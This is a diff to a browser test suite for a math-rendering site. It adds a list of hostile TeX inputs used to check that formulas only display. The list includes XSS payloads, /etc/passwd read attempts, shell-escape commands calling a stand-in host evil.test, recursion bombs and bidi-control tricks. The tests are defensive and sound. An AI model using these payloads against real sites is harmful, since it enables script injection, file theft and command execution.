@@ -3,7 +3,7 @@
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
 import { formula, serve } from "./assets.mjs";
-import { close, launch, open, walk } from "./browser.mjs";
+import { close, launch, open, translate, walk, without } from "./browser.mjs";
 
 let browser;
 before(async () => {
@@ -86,6 +86,46 @@ const HOSTILE = [
   `$${"\\sqrt{".repeat(400)}x${"}".repeat(400)}$`,
   "$\\frac{a$",
   "$$\\begin{align}a$$",
+  "$\\def\\a#1{#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}$",
+  "$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\b$",
+  "$\\let\\a\\b\\let\\b\\a\\a$",
+  "$\\newenvironment{a}{\\begin{a}}{\\end{a}}\\begin{a}\\end{a}$",
+  "$\\rule{99999em}{99999em}$",
+  "$\\Rule{99999em}{99999em}{99999em}$",
+  "$\\hspace{99999em}x$",
+  "$\\kern-99999em x$",
+  "$\\raise99999em{x}\\lower99999em{x}$",
+  "$\\mathchoice{\\mathchoice{a}{b}{c}{d}}{b}{c}{d}$",
+  "$\\unicode{x202e}\\unicode{65}$",
+  '$\\char`\\x\\char"202e$',
+  `$${"\\left(".repeat(300)}x${"\\right)".repeat(300)}$`,
+  `$$\\begin{matrix}${`${"a&".repeat(39)}a\\\\`.repeat(50)}\\end{matrix}$$`,
+  `$\\begin{array}{${"c".repeat(20_000)}}a\\end{array}$`,
+  `$x${"^{x".repeat(300)}${"}".repeat(300)}$`,
+  `$${"x'".repeat(3000)}$`,
+  "$\\verb|<img src=x onerror=alert(1)>|$",
+  "$\\special{html:<script>alert(1)</script>}$",
+  "$\\input{/etc/passwd}$",
+  "$\\include{//evil.test/x}$",
+  "$\\openin5=/etc/passwd$",
+  "$\\write18{curl evil.test}$",
+  "$\\immediate\\write18{id}$",
+  "$\\directlua{os.execute('id')}$",
+  "$\\catcode`\\@=11 x$",
+  "$\\loop\\iftrue\\repeat$",
+  "$\\text{\u202Eevil\u202C \u2066a\u2069}$",
+  "$\\text{a\u200Bb\u200Dc\uFEFFd\u00AD}$",
+  "$\\text{\u0000\uFFFF\u0007}$",
+  "$\\color{red;background:url(//evil.test)}x$",
+  "$\\textcolor{url(//evil.test)}{x}$",
+  '$\\colorbox{red\\"onload=alert(1)}{x}$',
+  "$\\definecolor{a}{rgb}{9e99,0,0}\\color{a}x$",
+  "$\\tag{1}\\tag{2}\\label{x}\\label{x}$",
+  "$\\ref{<img src=x onerror=alert(1)>}$",
+  "$\\ce{<img src=x onerror=alert(1)>}$",
+  "$\\operatorname{\\href{javascript:alert(1)}{x}}$",
+  "$\\lower{javascript:}x\\hbox{\\style{x}{y}}$",
+  "$%</span><script>alert(1)</script>$",
 ];
 
 test("hostile formulas do nothing but show", async () => {
@@ -105,6 +145,45 @@ test("hostile formulas do nothing but show", async () => {
     };
   });
   assert.deepEqual(seen, { links: 0, images: 0, handlers: 0, styles: 0, sources: true, after: true });
+});
+
+test("a formula that calls another host would not go unnoticed", async () => {
+  const site = await serve(
+    '<img alt="" src="http://evil.test/x.png"><p style="background:url(//evil.test)">x</p>',
+  );
+  const page = await open(browser, site.address);
+  assert.ok(page.complaints.some((complaint) => complaint.includes("evil.test")));
+  page.complaints = [];
+  await close(page);
+  site.stop();
+});
+
+test("controls of the direction of writing end with their formula, typeset or not", async () => {
+  const site = await serve('<p><span class="math inline">$\\text{\u202Eevil}$</span><b> abc</b></p>');
+  let engine = () => {};
+  const held = new Promise((resolve) => (engine = resolve));
+  const page = await open(browser, site.address, { prepare: without(held) });
+  const order = () =>
+    page.evaluate(() => {
+      const text = document.querySelector(".prose b").firstChild;
+      const left = (at) => {
+        const range = document.createRange();
+        range.setStart(text, at);
+        range.setEnd(text, at + 1);
+        return range.getBoundingClientRect().left;
+      };
+      return left(1) < left(2) && left(2) < left(3);
+    });
+  const plain = (yes) => page.evaluate((yes) => document.documentElement.classList.toggle("plain", yes), yes);
+  assert.ok(await order());
+  await plain(true); // as where the engine does not come
+  assert.ok(await order());
+  await plain(false);
+  engine();
+  await page.waitForSelector("mjx-container");
+  assert.ok(await order());
+  await close(page);
+  site.stop();
 });
 
 const NUMBERED = [
@@ -154,36 +233,41 @@ test("a selection with formulas copies their TeX", async () => {
   site.stop();
 });
 
-test("translation touches prose once and no formula, before and after typesetting", async () => {
+test("translation touches prose once and no formula: at first, while typesetting, after lazy loading", async () => {
+  const COUNT = 120;
+  const long = Array.from({ length: 12 }, (_, n) => `word_{${n}}`).join("+");
+  const tex = (n) =>
+    n % 10 === 0 ? `$${long}+x_{${n}}$` : n % 10 === 5 ? `$$\\text{word ${n}}$$` : `$x_{${n}}$`;
   const body = Array.from(
-    { length: 40 },
-    (_, n) =>
-      `<p>word ${"text ".repeat(60)} <span class="math inline notranslate" translate="no">$x_{${n}}$</span></p>`,
+    { length: COUNT },
+    (_, n) => `<p>word ${"text ".repeat(60)}</p>${formula(tex(n), { display: n % 10 === 5 })}`,
   );
   const site = await serve(body.join(""));
-  const page = await open(browser, site.address);
-  const translate = () =>
-    page.evaluate(() => {
-      const walker = document.createTreeWalker(document.querySelector(".prose"), NodeFilter.SHOW_TEXT);
-      while (walker.nextNode()) {
-        const node = walker.currentNode;
-        if (!node.parentElement.closest('[translate="no"], .notranslate'))
-          node.data = node.data.toUpperCase().replace("WORD", "WORD+");
-      }
-    });
-  await translate();
+  let engine = () => {};
+  const held = new Promise((resolve) => (engine = resolve));
+  const page = await open(browser, site.address, { prepare: without(held) });
+  assert.equal(await page.locator("mjx-container").count(), 0);
+  await translate(page);
+  engine();
+  await page.waitForSelector("mjx-container");
+  assert.ok((await page.locator("mjx-container").count()) < COUNT);
+  await translate(page);
   await walk(page);
+  await translate(page);
   const seen = await page.evaluate(() => ({
-    prose: [...document.querySelectorAll(".prose p")].every((p) =>
-      p.firstChild.data.startsWith("WORD+ TEXT"),
-    ),
+    prose: [...document.querySelectorAll(".prose p:not(:has(.math))")].map((p) => p.textContent.trim()),
     tex: [...document.querySelectorAll(".math")].map((e) => e.dataset.tex),
     typeset: document.querySelectorAll("mjx-container").length,
+    starred: document
+      .querySelectorAll("mjx-container")
+      .values()
+      .some((e) => e.textContent.includes("*")),
   }));
   assert.deepEqual(seen, {
-    prose: true,
-    tex: Array.from({ length: 40 }, (_, n) => `$x_{${n}}$`),
-    typeset: 40,
+    prose: Array.from({ length: COUNT }, () => `WORD*${" TEXT*".repeat(60)}`),
+    tex: Array.from({ length: COUNT }, (_, n) => tex(n)),
+    typeset: COUNT,
+    starred: false,
   });
   await close(page);
   site.stop();
